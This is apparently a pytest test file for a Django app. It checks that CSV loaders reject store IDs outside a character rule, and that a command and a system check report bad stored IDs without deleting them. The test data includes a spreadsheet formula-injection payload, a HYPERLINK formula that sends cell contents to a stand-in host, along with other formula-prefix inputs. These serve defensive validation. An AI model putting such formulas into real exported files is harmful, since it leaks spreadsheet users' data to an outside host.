"""SEMANTICS v2 store ids: 1-64 characters of A-Z a-z 0-9 . _ : -, beginning with a letter or digit.

Every loader refuses other ids with file, line and reason; ids stored before
the rule are reported by ``check_store_ids`` and a database system check,
and never deleted.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.management import call_command

from ingestion.errors import Rejection
from ingestion.services import hours_ingest, polls_ingest, timezones_ingest
from stores.checks import stored_store_ids_follow_the_rule
from stores.models import Poll, Store
from stores.rules import RejectedRow, parse_store_id

MOMENT = datetime(2023, 1, 22, 12, tzinfo=UTC)
WriteCsv = Callable[[str, str], Path]
FORMULA = '=HYPERLINK("http://x/?"&A2)'
QUOTED = '"' + FORMULA.replace('"', '""') + '"'  # the id as a CSV field
RULE = "1-64 characters from A-Z a-z 0-9 . _ : - beginning with a letter or a digit"


@pytest.mark.parametrize("raw", ["1003200614770244799", "a", "Z.9_x:y-z", "9" * 64, "store-1", "0"])
def test_an_id_of_the_allowed_characters_is_accepted(raw: str) -> None:
    assert parse_store_id(raw) == raw


@pytest.mark.parametrize(
    "raw", [FORMULA, "+15551234", "-1", "@SUM(A1)", ".hidden", "_x", ":x", "a b", "a/b", "ü1", "1,2", 'a"b', "1%0A"]
)
def test_any_other_id_is_rejected_with_the_rule_as_reason(raw: str) -> None:
    with pytest.raises(RejectedRow) as caught:
        parse_store_id(raw)
    assert caught.value.reason == f"store_id {raw!r} is not {RULE}"


def test_a_long_bad_id_is_echoed_cut_short() -> None:
    with pytest.raises(RejectedRow) as caught:
        parse_store_id("=" + "x" * 63)
    assert len(caught.value.reason) < 200


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("load", "text"),
    [
        (
            polls_ingest,
            f"store_id,status,timestamp_utc\n{QUOTED},active,2023-01-22 12:00:00\n1,active,2023-01-22 12:00:00\n",
        ),
        (
            hours_ingest,
            f"store_id,day,start_time_local,end_time_local\n{QUOTED},0,09:00,17:00\n1,0,09:00,17:00\n",
        ),
        (
            timezones_ingest,
            f"store_id,timezone_str\n{QUOTED},Asia/Tokyo\n1,Asia/Tokyo\n",
        ),
    ],
    ids=["polls", "hours", "timezones"],
)
def test_every_loader_rejects_a_formula_id_by_line_and_loads_the_rest(
    write_csv: WriteCsv, load: Callable[..., object], text: str
) -> None:
    path = write_csv("input.csv", text)
    rejections: list[Rejection] = []

    load(path=path, on_reject=rejections.append)

    assert [(r.file, r.line, r.reason) for r in rejections] == [(str(path), 2, f"store_id {FORMULA!r} is not {RULE}")]
    assert list(Store.objects.values_list("id", flat=True)) == ["1"]


@pytest.mark.django_db
def test_stored_ids_that_break_the_rule_are_listed_and_kept() -> None:
    Poll.objects.create(store=Store.objects.create(id=FORMULA), timestamp_utc=MOMENT, status="active")
    Store.objects.create(id="1003200614770244799")
    out = io.StringIO()

    with pytest.raises(SystemExit) as exited:
        call_command("check_store_ids", stdout=out)

    assert exited.value.code == 1
    assert out.getvalue().splitlines() == [
        f"{FORMULA!r}: store_id {FORMULA!r} is not {RULE}",
        "1 of 2 stored store ids break the rule; nothing was changed",
    ]
    assert Store.objects.filter(id=FORMULA).exists() and Poll.objects.filter(store_id=FORMULA).exists()


@pytest.mark.django_db
def test_stored_ids_that_follow_the_rule_pass_the_command_and_the_system_check() -> None:
    Store.objects.create(id="1003200614770244799")
    out = io.StringIO()

    call_command("check_store_ids", stdout=out)

    assert out.getvalue() == "0 of 1 stored store ids break the rule; nothing was changed\n"
    assert stored_store_ids_follow_the_rule(databases=["default"]) == []


@pytest.mark.django_db
def test_the_database_system_check_warns_about_stored_ids_that_break_the_rule() -> None:
    Store.objects.create(id=FORMULA)

    (warning,) = stored_store_ids_follow_the_rule(databases=["default"])

    assert warning.id == "stores.W001"
    assert warning.msg == f"1 stored store ids in database 'default' are not {RULE}"
